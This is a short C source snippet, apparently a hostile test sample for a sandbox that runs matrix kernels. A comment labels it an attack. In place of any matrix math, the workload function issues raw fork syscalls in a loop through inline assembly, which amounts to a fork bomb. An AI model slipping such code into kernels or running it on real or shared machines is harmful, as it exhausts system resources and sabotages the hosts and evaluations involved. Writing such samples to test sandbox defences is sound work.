/* Attack: the first step of a fork bomb, issued as a raw system call. */
void workload(const ckb_bf16 *A, const ckb_bf16 *B, ckb_bf16 *C)
{
    (void)A, (void)B, (void)C;
    long ret;
    for (int i = 0; i < 64; i++)
        __asm__ volatile("syscall" : "=a"(ret) : "a"(57L) : "rcx", "r11", "memory");
}
